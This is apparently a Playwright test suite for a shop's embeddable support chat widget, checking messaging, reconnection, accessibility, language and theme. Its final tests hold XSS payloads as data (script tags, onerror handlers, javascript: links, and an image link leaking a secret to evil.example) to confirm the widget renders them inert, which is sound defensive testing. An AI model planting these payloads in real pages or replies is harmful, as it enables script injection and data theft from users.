"""The widget in a real browser, on its page, with an Inbox in memory that the tests speak through."""

import asyncio
import time
from contextlib import asynccontextmanager

import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from browser_parts import IN_A_BROWSER
from playwright.async_api import expect
from web_inbox import FakeInbox

from bot.channels.web.routes import routes
from bot.channels.web.settings import WebSettings
from bot.errors import StoreUnavailable
from bot.messages import Button, LiveFrame, Source

SETTINGS = {
    "secret": b"a secret of the test",
    "title": "Tea House help",
    "greeting": "Hello! Ask about orders, deliveries and returns.",
    "suggestions": ("Where is my order?", "How do I return something?", "Do you ship abroad?"),
}
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.violatedDirective + e.blockedURI));
window.alert = () => window.violations.push("alert");
"""

pytestmark = IN_A_BROWSER


@asynccontextmanager
async def serving(inbox, port=None, **options):
    app = web.Application()
    app.add_routes(routes(inbox, WebSettings(**(SETTINGS | options))))
    server = TestServer(app, port=port)
    await server.start_server(shutdown_timeout=0.1)
    try:
        yield server
    finally:
        await server.close()


class Visit:
    """One customer's tab, and the inbox behind it."""

    def __init__(self, page, inbox, server):
        self.page, self.inbox, self.server = page, inbox, server
        self.log = page.get_by_role("log")
        self.input = page.locator("textarea")
        self.launcher = page.locator(".launcher")
        self.cid = None

    async def open(self):
        await self.launcher.click()
        await expect(self.page.locator(".root")).to_have_attribute("data-state", "online")

    async def say(self, text):
        await self.input.fill(text)
        await self.input.press("Enter")
        return await self.heard()

    async def heard(self):
        inbound = await asyncio.wait_for(self.inbox.heard.get(), 10)
        self.cid = inbound.conversation_id
        return inbound

    def reply(self, text=None, **parts):
        return self.inbox.reply(self.cid, text, **parts)

    def live(self, kind, **parts):
        self.inbox.send(self.cid, LiveFrame(type=kind, **parts))

    async def texts(self):
        return await self.page.locator(".row[data-id] .bubble").all_inner_texts()

    async def cut(self):
        """End every socket of the conversation, as a restarting server does."""
        for queue in list(self.inbox.live[self.cid]):
            queue.put_nowait(None)
        while self.inbox.live[self.cid]:
            await asyncio.sleep(0.01)

    async def harmless(self):
        return await self.page.evaluate("window.violations") == []


@asynccontextmanager
async def visiting(browser, path="/", inbox=None, **context):
    inbox = inbox or FakeInbox(now=time.time())
    async with serving(inbox) as server:
        context = await browser.new_context(**({"viewport": {"width": 1180, "height": 800}} | context))
        page = await context.new_page()
        page.set_default_timeout(10_000)
        await page.add_init_script(WATCH)
        problems = []
        page.on("pageerror", lambda error: problems.append(str(error)))
        await page.goto(str(server.make_url(path)))
        await page.locator("kefu-chat").wait_for(state="attached")
        yield Visit(page, inbox, server)
        await context.close()
        assert problems == []


@pytest_asyncio.fixture(loop_scope="module")
async def visit(browser):
    async with visiting(browser) as visit:
        yield visit


async def test_a_question_and_its_answer(visit):
    await visit.open()
    await expect(visit.log).to_contain_text("Hello! Ask about orders")
    assert (await visit.say("Where is my order?")).text == "Where is my order?"
    await expect(visit.page.locator(".row.user .bubble")).to_have_text("Where is my order?")
    await expect(visit.page.locator(".pending")).to_have_count(0)
    visit.reply("On its **way**. See https://shop.example/track")
    answer = visit.page.locator(".row.bot[data-id] .bubble")
    await expect(answer).to_have_text("On its way. See https://shop.example/track")
    await expect(answer.locator("strong")).to_have_text("way")
    link = answer.locator("a")
    await expect(link).to_have_attribute("href", "https://shop.example/track")
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await expect(link).to_have_attribute("target", "_blank")
    assert await visit.harmless()


async def test_a_question_of_the_page_opens_the_chat(visit):
    await visit.page.get_by_role("button", name="Do you ship abroad?").click()
    assert (await visit.heard()).text == "Do you ship abroad?"
    await expect(visit.input).to_be_visible()


async def test_a_suggestion_in_the_chat_is_sent_and_then_gone(visit):
    await visit.open()
    chips = visit.log.get_by_role("button")
    await expect(chips).to_have_count(3)
    await chips.first.click()
    assert (await visit.heard()).text == "Where is my order?"
    await expect(chips.first).to_be_hidden()


async def test_buttons_send_their_payload_and_show_their_title(visit):
    await visit.open()
    await visit.say("Cancel my order")
    visit.reply("Really?", buttons=(Button(title="Yes", payload="/affirm"), Button(title="No", payload="/deny")))
    await visit.log.get_by_role("button", name="Yes").click()
    inbound = await visit.heard()
    assert (inbound.text, inbound.display) == ("/affirm", "Yes")
    await expect(visit.log.get_by_role("button", name="No")).to_be_disabled()
    assert await visit.texts() == ["Cancel my order", "Really?", "Yes"]


async def test_an_answer_streams_and_then_stands(visit):
    await visit.open()
    await visit.say("Tell me about returns")
    visit.live("typing", on=True)
    await expect(visit.page.locator(".dots")).to_be_visible()
    visit.live("partial", event_id="e", text="You have **30 days**.")
    partial = visit.page.locator(".partial")
    await expect(partial).to_have_text("You have 30 days.")
    await expect(visit.page.locator(".dots")).to_have_count(0)
    visit.live("partial", event_id="e", text="You have **30 days**. Keep the receipt.")
    await expect(partial).to_have_text("You have 30 days. Keep the receipt.")
    visit.reply(
        "You have **30 days**. Keep the receipt.",
        sources=(
            Source(title="Returns", document="returns.md", url="https://shop.example/returns"),
            Source(title="Receipts", document="receipts.md"),
        ),
        rateable=True,
    )
    visit.live("done", event_id="e")
    await expect(partial).to_have_count(0)
    await expect(visit.page.locator(".row.bot[data-id] .bubble")).to_have_count(1)
    sources = visit.page.locator(".sources li")
    assert await sources.all_inner_texts() == ["Returns", "Receipts"]
    await expect(sources.first.locator("a")).to_have_attribute("href", "https://shop.example/returns")
    await expect(sources.nth(1).locator("a")).to_have_count(0)


async def test_thumbs_are_sent_and_remembered(visit):
    await visit.open()
    await visit.say("hi")
    visit.reply("not rateable")
    reply = visit.reply("rateable", rateable=True)
    up, down = (
        visit.page.get_by_role("button", name="Helpful", exact=True),
        visit.page.get_by_role("button", name="Not helpful"),
    )
    await expect(up).to_have_count(1)
    await down.click()
    inbound = await visit.heard()
    assert (inbound.kind, inbound.metadata["reply_id"], inbound.metadata["value"]) == ("feedback", reply.id, "down")
    await expect(visit.page.get_by_text("Thank you for the feedback")).to_be_visible()
    await visit.page.reload()
    await expect(down).to_have_attribute("aria-pressed", "true")
    await expect(up).to_have_attribute("aria-pressed", "false")
    await up.click()
    assert (await visit.heard()).metadata["value"] == "up"


async def test_reconnects_without_gap_or_duplicate(visit):
    await visit.open()
    await visit.say("first")
    for n in range(30):
        visit.reply(f"reply {n}", silent=n % 3 == 1)
        if n % 10 == 4:
            await visit.cut()
            visit.reply(f"while away {n}", silent=True)
    expected = ["first"]
    for n in range(30):
        expected += [f"reply {n}"] + ([f"while away {n}"] if n % 10 == 4 else [])
    await expect(visit.page.locator(".row[data-id]")).to_have_count(len(expected), timeout=15_000)
    assert await visit.texts() == expected


async def test_what_is_written_while_the_server_is_down_arrives_once(browser):
    inbox = FakeInbox(now=time.time())
    async with visiting(browser, inbox=inbox) as visit:
        await visit.open()
        await visit.say("one")
        port = visit.server.port
        await visit.server.close()
        await expect(visit.page.locator(".banner.lost")).to_be_visible()
        await visit.input.fill("two")
        await visit.input.press("Enter")
        await visit.input.fill("three")
        await visit.input.press("Enter")
        await expect(visit.page.locator(".pending")).to_have_count(2)
        async with serving(inbox, port=port):
            assert [(await visit.heard()).text for _ in range(2)] == ["two", "three"]
            await expect(visit.page.locator(".pending")).to_have_count(0)
            await expect(visit.page.locator(".banner.lost")).to_be_hidden()
            visit.reply("all three")
            await expect(visit.page.locator(".row.bot[data-id]")).to_have_count(1)
            assert await visit.texts() == ["one", "two", "three", "all three"]
            await visit.page.wait_for_timeout(300)
            assert inbox.heard.empty()
            await visit.page.close()


async def test_a_message_the_store_refuses_is_sent_again(browser):
    inbox = FakeInbox(now=time.time())
    async with visiting(browser, inbox=inbox) as visit:
        await visit.open()
        inbox.error = StoreUnavailable("down")
        await visit.input.fill("important")
        await visit.input.press("Enter")
        await expect(visit.page.locator(".pending .state")).to_have_text("Busy, trying again…")
        inbox.error = None
        assert (await visit.heard()).text == "important"
        await expect(visit.page.locator(".pending")).to_have_count(0)


async def test_reload_keeps_history_and_panel(visit):
    await visit.open()
    await visit.say("remember me")
    visit.reply("Always.")
    await expect(visit.page.locator(".row.bot[data-id]")).to_have_count(1)
    before = await visit.texts()
    await visit.page.reload()
    await expect(visit.page.locator(".row.bot[data-id]")).to_have_count(1)
    await expect(visit.input).to_be_visible()
    assert await visit.texts() == before
    assert (await visit.say("still me")).conversation_id == visit.cid


async def test_an_unsent_message_survives_a_reload(visit):
    await visit.open()
    await visit.say("one")
    visit.inbox.verdict = "busy"
    await visit.input.fill("two")
    await visit.input.press("Enter")
    await expect(visit.page.locator(".pending .state")).to_have_text("Busy, trying again…")
    visit.inbox.verdict = "queued"
    await visit.page.reload()
    assert (await visit.heard()).text == "two"
    await expect(visit.page.locator(".row.user[data-id]")).to_have_count(2)


async def test_a_new_conversation_forgets_the_old_one(visit):
    await visit.open()
    first = (await visit.say("old")).conversation_id
    await visit.page.get_by_role("button", name="New conversation").click()
    await visit.page.get_by_role("button", name="Keep this one").click()
    assert await visit.texts() == ["old"]
    await visit.page.get_by_role("button", name="New conversation").click()
    await visit.page.get_by_role("button", name="Start new").click()
    await expect(visit.page.locator(".row[data-id]")).to_have_count(0)
    assert (await visit.say("new")).conversation_id != first


async def test_two_tabs_share_a_conversation(visit):
    await visit.open()
    await visit.say("from the first tab")
    other = await visit.page.context.new_page()
    await other.goto(visit.page.url)
    await other.locator(".launcher").click()
    await expect(other.locator(".row.user[data-id] .bubble")).to_have_text("from the first tab")
    await other.get_by_role("button", name="New conversation").click()
    await other.get_by_role("button", name="Start new").click()
    await other.locator("textarea").fill("from the second tab")
    await other.locator("textarea").press("Enter")
    await visit.heard()
    await expect(visit.page.locator(".row.user[data-id] .bubble")).to_have_text("from the second tab")


async def test_a_person_takes_over_and_leaves(visit):
    await visit.open()
    await visit.say("A person please")
    visit.inbox.add(visit.cid, "status", "s1", text="handoff")
    banner = visit.page.locator(".banner.person")
    await expect(banner).to_have_text("A colleague has been asked to help. You can keep writing.")
    visit.reply("Mia here, hello!", author="agent")
    await expect(visit.page.locator(".row.agent .author")).to_have_text("Support team")
    await expect(banner).to_have_text("You are talking to a person.")
    await visit.page.reload()
    await expect(banner).to_have_text("You are talking to a person.")
    visit.inbox.add(visit.cid, "status", "s2", text="resumed")
    await expect(banner).to_be_hidden()
    await expect(visit.log).to_contain_text("The assistant is back")


async def test_unread_messages_are_counted_while_closed(visit):
    await visit.open()
    await visit.say("I will be back")
    visit.reply("Take your time")
    await expect(visit.page.locator(".row.bot[data-id]")).to_have_count(1)
    await visit.page.get_by_role("button", name="Close chat").click()
    visit.reply("one")
    visit.reply("two", author="agent")
    await expect(visit.launcher).to_have_accessible_name("Open chat, 2 new messages")
    await expect(visit.page.locator(".badge")).to_have_text("2")
    await visit.page.reload()
    await expect(visit.page.locator(".badge")).to_have_text("2")
    await visit.launcher.click()
    await visit.page.get_by_role("button", name="Close chat").click()
    await expect(visit.launcher).to_have_accessible_name("Open chat")


async def test_by_keyboard_alone(visit):
    page = visit.page
    focused = "document.querySelector('kefu-chat').shadowRoot.activeElement"
    for _ in range(20):
        await page.keyboard.press("Tab")
        if await page.evaluate(f"{focused}?.className === 'launcher'"):
            break
    await page.keyboard.press("Enter")
    await expect(visit.input).to_be_focused()
    await page.keyboard.type("line one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("line two")
    await page.keyboard.press("Enter")
    assert (await visit.heard()).text == "line one\nline two"
    await expect(visit.input).to_have_value("")
    visit.reply("Sure?", buttons=(Button(title="Yes", payload="/affirm"),))
    await visit.log.get_by_role("button", name="Yes").wait_for()
    await page.keyboard.press("Shift+Tab")
    while await page.evaluate(f"{focused}.textContent") != "Yes":
        await page.keyboard.press("Shift+Tab")
    await page.keyboard.press("Space")
    assert (await visit.heard()).text == "/affirm"
    await expect(visit.input).to_be_focused()
    await page.keyboard.press("Escape")
    await expect(visit.input).to_be_hidden()
    await expect(visit.launcher).to_be_focused()


async def test_enter_while_an_input_method_composes_sends_nothing(visit):
    await visit.open()
    await visit.input.fill("nihao")
    await visit.input.dispatch_event(
        "keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "composed": True}
    )
    await expect(visit.input).to_have_value("nihao")
    assert visit.inbox.heard.empty()


async def test_what_a_screen_reader_finds(visit):
    await visit.open()
    await visit.say("hi")
    visit.reply("hello", rateable=True)
    await expect(visit.page.get_by_role("dialog", name="Tea House help")).to_be_visible()
    await expect(visit.page.get_by_role("textbox", name="Your message")).to_be_visible()
    await expect(visit.page.get_by_role("log", name="Conversation")).to_have_attribute("aria-live", "polite")
    await expect(visit.page.get_by_role("group", name="Was this helpful?")).to_be_visible()
    spoken = await visit.page.locator(".row[data-id] .spoken").all_text_contents()
    assert spoken == ["You: ", "Tea House help: "]
    for button in await visit.page.locator("kefu-chat button:visible").all():
        assert await button.evaluate("b => (b.getAttribute('aria-label') || b.textContent).trim()")


async def test_chinese(browser):
    async with visiting(browser, "/?lang=zh") as visit:
        await visit.open()
        await expect(visit.page.get_by_role("textbox", name="您的消息")).to_be_visible()
        inbound = await visit.say("怎么退货？")
        assert (inbound.text, inbound.metadata["lang"]) == ("怎么退货？", "zh-CN")
        visit.reply("收到商品后 **30 天**内可以退货，详见 https://shop.example/help。", rateable=True)
        await expect(visit.page.locator(".bot[data-id] a")).to_have_attribute("href", "https://shop.example/help")
        await expect(visit.page.get_by_role("button", name="有帮助", exact=True)).to_be_visible()
        visit.inbox.add(visit.cid, "status", "s", text="handoff")
        await expect(visit.page.locator(".banner.person")).to_have_text("已为您联系同事，您可以继续留言。")


async def test_dark_follows_the_system(browser):
    async with visiting(browser, color_scheme="dark") as visit:
        await visit.open()
        panel = visit.page.locator(".panel")
        await expect(panel).to_have_css("background-color", "rgb(23, 28, 27)")
        await visit.page.emulate_media(color_scheme="light")
        await expect(panel).to_have_css("background-color", "rgb(255, 255, 255)")


async def test_phone(browser):
    phone = {"viewport": {"width": 375, "height": 667}, "has_touch": True, "is_mobile": True}
    async with visiting(browser, **phone) as visit:
        await visit.open()
        box = await visit.page.locator(".panel").bounding_box()
        assert box == {"x": 0, "y": 0, "width": 375, "height": 667}
        await visit.say("hi")
        visit.reply("| Country | Days | Price |\n|---|---|---|\n| Switzerland | 4 to 6 | 12.00 |\n" + "word " * 60)
        await expect(visit.page.locator(".row.bot[data-id]")).to_have_count(1)
        assert await visit.page.evaluate("document.documentElement.scrollWidth") <= 375
        assert await visit.log.evaluate("log => log.scrollWidth <= log.clientWidth")
        for _ in range(15):  # Tab goes round inside what covers the page
            await visit.page.keyboard.press("Tab")
            assert await visit.page.evaluate("document.activeElement.tagName") == "KEFU-CHAT"


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/leak?q=secret)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '[x](https://a.example/"onmouseover="alert(1))',
]


async def test_hostile_answers_do_nothing(visit):
    requests = []
    visit.page.on("request", lambda request: requests.append(request.url))
    await visit.open()
    await visit.say("<img src=x onerror=alert(1)>")
    for text in HOSTILE:
        visit.live("partial", event_id="e", text=text)
        visit.reply(
            text,
            buttons=(Button(title=text, payload="/x"),),
            sources=(Source(title=text, document="d", url="javascript:alert(1)"),),
            image="https://evil.example/pixel.png",
            rateable=True,
        )
    await expect(visit.page.locator(".row.bot[data-id]")).to_have_count(len(HOSTILE))
    await expect(visit.page.locator(".row.user .bubble")).to_have_text("<img src=x onerror=alert(1)>")
    assert await visit.page.locator(".log img, .log script, .log iframe, .log [onerror]").count() == 0
    assert not [url for url in requests if "evil" in url]
    assert await visit.harmless()


async def test_the_widget_does_not_trust_the_server_either(visit):
    await visit.open()
    shown = await visit.page.evaluate(
        """async () => {
          const address = performance.getEntriesByType("resource").find((e) => e.name.includes("rich_text")).name;
          const { richText } = await import(address);
          const box = document.createElement("div");
          box.append(richText(`<p onclick="alert(1)" style="color:red" id="x">a<script>alert(1)<\\/script>
            <img src=x onerror="alert(1)"><a href="javascript:alert(1)">b</a>
            <a href="https://ok.example" onclick="x">c</a>
            <svg><a xlink:href="javascript:alert(1)">d</a></svg><form action="//evil"><button>e</button></form></p>`));
          return box.innerHTML.replace(/\\s+/g, " ");
        }"""
    )
    safe = '<a href="https://ok.example" target="_blank" rel="noopener noreferrer nofollow">c</a>'
    assert shown == f"<p>a <a>b</a> {safe} d</p>e<p></p>"  # the text of what is not allowed stays
    # The policy may report the inline style that the inert document was refused; nothing ran.
    assert "alert" not in await visit.page.evaluate("window.violations")


async def test_on_a_strict_page_of_another_site(browser):
    """Another origin embeds the widget: it is styled and connects under a strict policy with Trusted Types."""
    inbox = FakeInbox(now=time.time())
    shop = web.Application()
    shop_server = TestServer(shop, host="localhost")
    allowed = []

    async def shop_page(_request):
        bot = allowed[0]
        policy = (
            f"default-src 'none'; script-src {bot}; connect-src {bot.replace('http', 'ws')}; "
            "require-trusted-types-for 'script'; trusted-types kefu-chat"
        )
        attributes = 'data-title="Help &lt;3" data-color="#ffd54f" data-open data-lang="zh"'
        text = f'<!doctype html><title>shop</title><body><script src="{bot}/widget.js" {attributes}></script>'
        return web.Response(text=text, content_type="text/html", headers={"Content-Security-Policy": policy})

    shop.router.add_get("/", shop_page)
    await shop_server.start_server()
    origin = f"http://localhost:{shop_server.port}"
    async with serving(inbox, allowed_origins=(origin,)) as server:
        allowed.append(f"http://127.0.0.1:{server.port}")
        page = await browser.new_page()
        await page.add_init_script(WATCH)
        await page.goto(origin)
        await page.locator("textarea").fill("hello")
        await page.locator("textarea").press("Enter")
        cid = (await asyncio.wait_for(inbox.heard.get(), 10)).conversation_id
        inbox.reply(cid, "**styled**")
        await expect(page.locator(".bot[data-id] strong")).to_have_text("styled")
        await expect(page.locator("h2")).to_have_text("Help <3")
        user = page.locator(".row.user .bubble")
        assert await user.evaluate("b => getComputedStyle(b).backgroundColor") == "rgb(255, 213, 79)"
        assert await user.evaluate("b => getComputedStyle(b).color") == "rgb(22, 32, 29)"  # dark on a light colour
        assert await page.evaluate("window.violations") == []
        await page.close()
    await shop_server.close()
